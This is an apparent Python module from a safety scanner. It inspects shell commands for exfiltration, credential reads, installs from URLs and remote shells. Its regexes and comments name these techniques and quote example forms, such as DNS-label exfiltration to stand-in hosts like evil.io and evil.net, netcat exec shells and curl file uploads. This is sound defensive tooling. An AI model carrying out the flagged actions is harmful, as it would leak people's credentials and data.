"""Per-command checks beyond download-and-run: exfiltration, persistence hooks, credential
reads, installing straight from a URL, and remote shells."""

from __future__ import annotations

import re
from itertools import pairwise

from skillgit.safety.credential_files import is_sensitive
from skillgit.safety.findings import Finding
from skillgit.safety.lookalike import is_known, pinned
from skillgit.safety.persist import persistence_findings
from skillgit.safety.resolve import Resolved, names_of
from skillgit.safety.shell import Command, Word, walk
from skillgit.safety.vocab import (
    CREDENTIALS,
    DOWNLOAD_RUN,
    ENV_DUMPS,
    EXFILTRATION,
    RAW_SOCKETS,
    READERS,
    SENDERS,
    UPLOADERS,
    dumps_a_database,
    is_home,
    is_home_dot_entry,
    is_language,
)

_UPLOAD_FLAGS = re.compile(r"^(?:-F|--form|--form-string|-d|--data|--data-binary|--data-raw|"
                           r"--data-ascii|--data-urlencode|--json|-T|--upload-file|"
                           r"--post-file|--body-file|-InFile|--infile)(?:=(.*))?$", re.I)
_SYSTEM_DATA = re.compile(r"/(?:var/lib|var/opt|srv|data|opt|mnt)/")
"""Where a system keeps its data (a database's files, a service's state)."""
_LITERAL_PRINTERS = frozenset({"echo", "printf", "print", "write-output"})
_SSH_VALUED = frozenset({"-b", "-c", "-D", "-E", "-e", "-F", "-I", "-i", "-J", "-L", "-l", "-m",
                         "-O", "-o", "-p", "-Q", "-R", "-S", "-W", "-w", "-B"})
_STORES_STDIN = re.compile(r"\s*(?:sudo\s+(?:-\S+\s+)*)?(?:cat\s*(?:-\s*)?>|tee\b|dd\b[^|;&]*\bof=|"
                           r"(?:gzip|gunzip|zcat|xz|zstd)\b[^|;&]*>)")
_MAILERS = frozenset({"mail", "mailx", "s-nail", "mutt", "neomutt", "swaks", "sendemail",
                      "send-mailmessage"})
_ATTACH_FLAGS = frozenset({"-A", "-a", "--attach", "--attach-file", "-attachments", "-attach"})
_ADDRESS = re.compile(r"[\w.+-]+@[\w-]+(?:\.[\w-]+)+")
_GLUED = re.compile(r"^-[sSLfkvigqN]*([dFT])(.*)$")
"""Short options run together, the last one taking a value glued (`-sd@x`) or next (`-sT -`)."""
_URL = re.compile(r"^(?:[a-z][a-z0-9+.-]*://)?(?:[^@/\s]+@)?(\[[^\]]+\]|[^/:\s?#]+)", re.I)
_HOSTISH = re.compile(r"^(?:localhost|[\w-]+(?:\.[\w-]+)+)(?::\d+)?(?:/|$)")
_LOOPBACK = re.compile(r"^(?:localhost|.*\.localhost|127(?:\.\d+){3}|0\.0\.0\.0|\[?::1\]?)$",
                       re.I)
# Programs that copy files to a service: `aws s3 cp`, `gsutil cp`, `rclone copy`, `gh gist`.
_LABEL_AFTER = re.compile(r"^\.(?:[a-z0-9-]+\.)*[a-z0-9-]+\.[a-z]{2,}\b", re.I)  # $(…).evil.io
_REMOTE_SPEC = re.compile(r"^(?:[\w.-]+@)?[\w.-]+:(?!//)")
_PLACEHOLDER_LABEL = re.compile(r"(?:\{\}|%|\$\{?\w+\}?)\.(?:[a-z0-9-]+\.)*[a-z0-9-]+\.[a-z]{2,}\b",
                                re.I)
"""`xargs -I{} dig {}.evil.net`: what xargs reads becomes a label of a name looked up."""
_WHOLE_TREE = re.compile(r"\.|\./|\$\{?PWD\}?/?|\$\(pwd\)/?|\"\$PWD\"")
"""The working tree itself as what is copied."""
_PERSONAL_DATA = re.compile(r"(?i)(?:^|[/_.-])(?:customers?|clients?|patients?|members|"
                            r"employees?|payroll|pii|personal|contacts|subscribers|crm|"
                            r"users?[_-](?:export|dump|data|table))(?:$|[/_.-])")
"""Paths that name people's records (`data/raw_customers`, `exports/patients.csv`)."""
_INSTALL_SUBCOMMANDS = frozenset({"install", "i", "add", "isntall", "in", "exec", "x", "dlx",
                                  "inject", "upgrade"})
_URLISH = re.compile(r"^(?:[\w.-]+\s*@\s*)?(?:[a-z][a-z0-9+.-]*://|git\+|git:|github:|gitlab:|"
                     r"bitbucket:|gist:|hg\+|svn\+|bzr\+|sourcehut:|flake:)", re.I)
# Programs that run what a URL argument names (`nix run github:x/y`, `ansible-pull -U URL`),
# with the subcommand that does ("" for any).
_RUNS_FROM_URL = {"nix": "run", "nix-shell": "", "nix-build": "", "ansible-pull": "",
                  "pre-commit": "try-repo", "nix-env": ""}
_SHORTHAND = re.compile(r"^[A-Za-z0-9][\w.-]*/[\w.-]+(?:#\S*)?$")


def reads(command: Command, variables: dict[str, set[str]]) -> str | None:
    """What a pipeline stage feeds on: "secret" (credentials, the environment), "file" (a
    file it reads), "output" (what any other program prints: a diff, a query's rows, a
    listing — local data all the same); None for text written out in full (`echo 'done'`)."""
    names = set().union(*(names_of(w, variables) for w in command.words[:64])) \
        if command.words else set()
    texts = [w.path for w in command.words]
    if names & ENV_DUMPS and not any(t.startswith(("-", "$")) or "=" in t for t in texts[1:2]):
        return "secret"
    if dumps_a_database(names, texts):
        return "secret"  # a database's rows leave with it
    if any(is_sensitive(t) for t in texts[1:]) and names & (READERS | ENV_DUMPS):
        return "secret"
    for redirect in command.redirects:
        if redirect.op == "<":
            return "secret" if is_sensitive(redirect.target.literal) else "file"
    if names & _LITERAL_PRINTERS and all(w.static is not None for w in command.words):
        return None  # `echo '{"text": "done"}'`: text written in the rule, no local data
    if names & READERS and any(t and not t.startswith("-") for t in texts[1:]):
        return "file"
    return "output" if names else None  # what any other program prints is local data


_RANK = {None: 0, "output": 1, "file": 2, "secret": 3}


def stronger(stage: str | None, before: str | None) -> str | None:
    """What a pipeline carries after a stage: the riskier of what the stage reads and what
    came before (`pg_dump | gzip | …` still carries a database)."""
    return stage if _RANK[stage] > _RANK[before] else before


def command_findings(command: Command, r: Resolved, upstream_reads: str | None) -> list[Finding]:
    return (_exfiltration(command, r, upstream_reads)
            + persistence_findings(command, r, upstream_reads)
            + _credentials(command, r) + _remote_install(r) + _remote_shell(r))


def secret_substituted(word: Word) -> bool:
    return any(reads(c, {}) == "secret" for inner in word.scripts() for c in walk(inner))


def _remote(args: list[str]) -> bool:
    """Whether the destination of a network command is anything but this machine."""
    urls = [a for a in args if "://" in a] or [a for a in args if _HOSTISH.match(a)]
    hosts = [m.group(1) for a in urls if (m := _URL.match(a))]
    return not hosts or any(not _LOOPBACK.match(h) for h in hosts)


def _exfiltration(command: Command, r: Resolved, upstream: str | None) -> list[Finding]:
    if not r.names & SENDERS and not any(is_language(n) for n in r.names):
        return []
    out = []
    if any(secret_substituted(w) for w in r.args) and r.names & SENDERS:
        out.append(Finding(EXFILTRATION, "credentials substituted into a network command"))
    args = r.arg_texts()
    if not r.names & SENDERS:
        return out
    remote = _remote(args)
    for i, arg in enumerate(args):
        m = _UPLOAD_FLAGS.match(arg)
        glued = _GLUED.match(arg) if m is None else None
        value = (m.group(1) if m and m.group(1) is not None else
                 args[i + 1] if m and i + 1 < len(args) else
                 glued.group(2) if glued and glued.group(2) else
                 args[i + 1] if glued and i + 1 < len(args) else None)
        if value is None:
            httpie = re.match(r"^[\w-]*(?:=|:=)?@(.+)$", arg) if r.names & {"http", "https",
                                                                           "xh"} else None
            value = "@" + httpie.group(1) if httpie else None
        if value is None:
            continue
        flag = ("-" + glued.group(1) if glued else arg.split("=", 1)[0]).lower()
        if "@" in value:
            file = value.split("@", 1)[1]      # -F f=@x, -d @x, --data-urlencode n@x
        elif "<" in value:
            file = value.split("<", 1)[1]      # -F f=<x
        elif flag in ("-t", "--upload-file", "-infile", "--post-file", "--body-file"):
            file = value
        else:
            continue
        file = file.split(";", 1)[0]
        if file == "-":
            stdin = [x.target.literal for x in command.redirects if x.op == "<"]
            if upstream == "secret" or (upstream is not None and remote) or any(
                    is_sensitive(f) or remote for f in stdin):
                out.append(Finding(EXFILTRATION, "local data piped into an upload"))
        elif is_sensitive(file) or remote:
            out.append(Finding(EXFILTRATION, "a local file uploaded"))
    if r.names & _MAILERS and any(a in _ATTACH_FLAGS or (a.startswith(("--attach=", "-A", "-a"))
                                  and len(a) > 1) for a in args) and any(
            _ADDRESS.search(a) for a in args):
        out.append(Finding(EXFILTRATION, "a local file sent by e-mail"))
    if upstream is not None and r.names & _MAILERS and any(_ADDRESS.search(a) for a in args):
        out.append(Finding(EXFILTRATION, "local data sent by e-mail"))
    fed = upstream is not None or any(x.op == "<" and x.target.literal != "/dev/null"
                                      for x in command.redirects)
    if fed and r.name == "ssh" and _stores_stdin_remotely(args):
        out.append(Finding(EXFILTRATION, "local data stored on another host"))
    if r.names & RAW_SOCKETS and remote and (upstream or any(
            x.op == "<" and x.target.literal != "/dev/null" for x in command.redirects)):
        out.append(Finding(EXFILTRATION, "local data sent over a raw socket"))
    if r.names & {"scp", "rsync", "sftp", "rclone"} and any(_REMOTE_SPEC.match(a) for a in args):
        local = [a for a in args if not _REMOTE_SPEC.match(a)]
        if any(is_sensitive(a) for a in local):
            out.append(Finding(EXFILTRATION, "credentials copied to another host"))
        elif any(is_home(a) for a in local if not a.startswith("-")):
            out.append(Finding(EXFILTRATION, "the home directory copied to another host"))
        elif any(is_home_dot_entry(a) for a in local if not a.startswith("-")):
            out.append(Finding(EXFILTRATION, "a program's settings or logins copied to another "
                                             "host"))
        elif r.names & {"rclone"} and any(_WHOLE_TREE.fullmatch(a) for a in local):
            out.append(Finding(EXFILTRATION, "the repository copied to cloud storage"))
        elif r.names & {"rclone"} and any(_SYSTEM_DATA.match(a) for a in local):
            out.append(Finding(EXFILTRATION, "a system's data copied to cloud storage"))
    if r.name == "gh" and args[:2] == ["gist", "create"] and ({"--public", "-p"} & set(args)):
        out.append(Finding(EXFILTRATION, "a local file published as a public gist"))
    if r.name == "git" and (args[:4] == ["remote", "set-url", "--add", "--push"] or (
            args[:1] == ["config"] and any(re.fullmatch(r"remote\..+\.pushurl", a, re.I)
                                           for a in args)) or (
            args[:1] == ["push"] and "--mirror" in args)) and _remote(args):
        out.append(Finding(EXFILTRATION, "every push also sent to another URL"))
    if r.names & UPLOADERS and any(_PERSONAL_DATA.search(a) for a in args
                                   if not a.startswith("-")):
        out.append(Finding(EXFILTRATION, "people's data uploaded to a service"))
    pushed_to = [a for a in args[1:] if not a.startswith("-")][:1]  # the repository; then
    if r.name == "git" and args[:1] == ["push"] and any(           # refspecs (`HEAD:main`)
            ("://" in a or _REMOTE_SPEC.match(a)) and _remote([a]) for a in pushed_to):
        out.append(Finding(EXFILTRATION, "the repository pushed to a URL"))
    if any(_LABEL_AFTER.match(nxt.text) for w in r.args for sub, nxt in pairwise(w.parts)
           if sub.kind == "sub" and nxt.kind == "lit"):
        out.append(Finding(EXFILTRATION, "command output sent inside a host name"))
    if "xargs" in r.wrappers and any(_PLACEHOLDER_LABEL.search(a) for a in args):
        out.append(Finding(EXFILTRATION, "command output sent inside a host name"))
    if r.names & UPLOADERS and any(is_sensitive(a) for a in _sources(r)):
        out.append(Finding(EXFILTRATION, "credentials uploaded to a storage service"))
    elif r.names & UPLOADERS and any(is_home_dot_entry(a) for a in _sources(r)):
        out.append(Finding(EXFILTRATION, "a program's settings or logins uploaded"))
    if any(x.op == "<" and is_sensitive(x.target.path) for x in command.redirects):
        out.append(Finding(EXFILTRATION, "credentials fed to a network command"))
    if upstream == "secret":
        out.append(Finding(EXFILTRATION, "credentials piped into a network command"))
    return out


def _stores_stdin_remotely(args: list[str]) -> bool:
    """`ssh user@host 'cat >> f'`: the command another host runs writes what it reads (the
    local data piped into ssh) to a file there. A remote command that runs what it reads
    (`ssh db psql app`) is no copy of data."""
    i = 0
    while i < len(args) and args[i].startswith("-"):
        i += 2 if args[i] in _SSH_VALUED else 1
    if i >= len(args) or _LOOPBACK.match(args[i].rsplit("@", 1)[-1]):
        return False
    return bool(_STORES_STDIN.match(" ".join(args[i + 1:])))


_FILE_OPTIONS = frozenset({"-f", "-F", "--file", "--source", "--src", "--input", "-i",
                           "--from-file", "--path", "--local-path"})
"""Options whose value is the local file an upload sends (`az storage blob upload -f x`)."""


def _sources(r: Resolved) -> list[str]:
    """What a copy or upload sends: its positional arguments but the destination (the last,
    for two-place commands like `aws s3 cp SRC DEST`), URLs and option values left out."""
    args = r.arg_texts()
    plain = [a for i, a in enumerate(args) if not a.startswith("-") and not (
        i > 0 and re.fullmatch(r"-[a-zA-Z]|--(?:profile|region|key|cert|identity|config)\S*",
                               args[i - 1]))]
    named = [b for a, b in pairwise(args) if a in _FILE_OPTIONS]
    named += [a.split("=", 1)[1] for a in args if a.split("=", 1)[0] in _FILE_OPTIONS
              and "=" in a]
    two_place = not r.names & {"gh", "transfer", "croc", "ffsend", "wormhole", "ipfs"}
    return [a for a in (plain[:-1] if two_place else plain) + named if "://" not in a]


def _credentials(command: Command, r: Resolved) -> list[Finding]:
    args = r.args
    if r.names & {"cp", "mv", "install", "copy-item", "copy", "xcopy", "robocopy", "ditto"}:
        words = [w.literal for w in args]  # the sources: before the last word, or before "to"
        cut = words.index("to") if "to" in words else words.index("into") if "into" in words \
            else len(args) - 1
        args = args[:cut]
    if (r.names & READERS and any(is_sensitive(w.literal) or is_sensitive(w.path)
                                  for w in args)) or any(
            x.op == "<" and is_sensitive(x.target.literal) for x in command.redirects):
        return [Finding(CREDENTIALS, "a command that reads credentials")]
    return []


def _remote_install(r: Resolved) -> list[Finding]:
    """`pip install git+https://…`, `npm i user/repo`, `go run host/mod@v`, `cargo install
    --git …`, `deno run https://…`: code from a URL, installed or run at once."""
    options = r.runner_options
    fetched = [o.split("=", 1)[-1] for o in options if o.startswith(("--package=", "--from=",
                                                                       "--with=", "--spec="))]
    fetched += [b for a, b in pairwise(options) if a in ("--package", "--from", "--with", "-p")]
    if any(_URLISH.match(f) or (_SHORTHAND.match(f) and not f.startswith("@")) for f in fetched):
        return [Finding(DOWNLOAD_RUN, "a package run from a URL")]
    args = r.arg_texts()
    name = r.name
    if is_language(name) and args[:2] == ["-m", "pip"]:
        name, args = "pip", args[2:]
    plain = [a for a in args if not a.startswith("-")]
    sub = plain[0].lower() if plain else ""
    if name in ("pip", "pip3", "pipx", "uv", "uvx", "pdm", "poetry", "conda", "mamba",
                "brew", "gem", "npm", "pnpm", "yarn", "bun", "npx", "pnpx", "bunx", "deno",
                "cargo", "go", "composer", "dotnet", "scoop", "choco", "winget"):
        package_args = plain if name in ("npx", "pnpx", "bunx", "uvx") else (
            plain[1:] if sub in _INSTALL_SUBCOMMANDS or (sub == "run" and name in (
                "pipx", "deno", "go")) else [])
        if name in ("npx", "pnpx", "bunx", "uvx") or (
                name in ("npm", "pnpm", "yarn", "bun") and sub in ("exec", "x", "dlx")):
            package_args = package_args[:1]  # what follows the package is its own arguments
            #   (`npx @openapitools/openapi-generator-cli@2.13.4 generate -o src/client`)
        if name in ("uv", "pip") and sub in ("pip", "tool"):
            package_args = plain[2:]
        package_args += [a.split("=", 1)[-1] for a in args if a.startswith((
            "--from=", "--spec=", "--package=", "--with="))]  # `npm exec --package=…`
        package_args += [args[i + 1] for i, a in enumerate(args[:-1]) if a in (
            "--from", "--spec", "--package", "--with", "-p")]
        npm = name in ("npm", "pnpm", "yarn", "bun", "npx", "pnpx", "bunx")
        for arg in package_args:
            if _URLISH.match(arg) or " @ " in arg or (npm and _SHORTHAND.match(arg)
                                                     and not arg.startswith("@")):
                return [Finding(DOWNLOAD_RUN, "a package installed or run from a URL")]
            if name == "go" and sub == "run" and "@" in arg and "." in arg.split("/", 1)[0] \
                    and not (pinned(arg) and is_known("go", arg.split("@", 1)[0])):
                return [Finding(DOWNLOAD_RUN, "a remote module run at once")]  # (a release
                #   of a well-known module, as its README says to run it, is no download)
        if name == "cargo" and "--git" in args:
            return [Finding(DOWNLOAD_RUN, "a package installed from a git URL")]
    if _RUNS_FROM_URL.get(name, "-") in ("", sub) and any(_URLISH.match(a) for a in plain):
        return [Finding(DOWNLOAD_RUN, "code from a URL run at once")]
    return []


def _remote_shell(r: Resolved) -> list[Finding]:
    args = [a.lower() for a in r.arg_texts()]
    if r.names & RAW_SOCKETS and ({"-e", "-c", "--exec", "--sh-exec", "--lua-exec"} & set(args)
                                  or any(a.startswith(("exec:", "system:")) for a in args)):
        return [Finding(DOWNLOAD_RUN, "a remote shell")]
    return []
